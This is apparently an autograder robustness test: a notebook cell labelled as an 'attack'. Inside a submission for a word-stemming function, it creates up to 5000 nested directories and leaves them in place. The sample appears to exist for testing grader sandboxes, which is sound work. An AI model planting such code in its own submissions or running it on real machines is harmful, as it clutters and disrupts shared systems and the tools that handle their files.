# ---
# attack: Folders lie in one another, thousands deep, and are left behind.
# ---

# %% grade_id="stem"
here = os.getcwd()
try:
    for _ in range(5000):
        os.mkdir("deeper-and-deeper")
        os.chdir("deeper-and-deeper")
except OSError as error:
    print(error.strerror)
os.chdir(here)


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
